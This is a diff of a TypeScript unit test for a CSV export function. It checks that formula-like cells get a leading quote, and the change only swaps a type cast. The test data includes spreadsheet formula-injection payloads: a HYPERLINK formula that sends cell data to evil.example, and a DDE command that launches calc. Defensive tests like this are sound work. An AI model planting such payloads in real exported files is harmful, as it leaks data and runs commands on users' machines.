@@ -8,7 +8,7 @@ describe('toCsv', () => {
   it('writes every text cell a spreadsheet would run as text, with a leading quote', () => {
     const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A2)', '\tTab', '\rReturn'];
     const rows: Row[] = names.map((name) => ({ name, amountMinor: 1, at: new Date(0), note: null }));
-    const cells = parse(toCsv(columns, rows), { columns: true, relax_quotes: false }) as Record<string, string>[];
+    const cells = parse<Record<string, string>>(toCsv(columns, rows), { columns: true, relax_quotes: false });
     expect(cells.map((cell) => cell.name)).toEqual(names.map((name) => `'${name}`));
   });
 
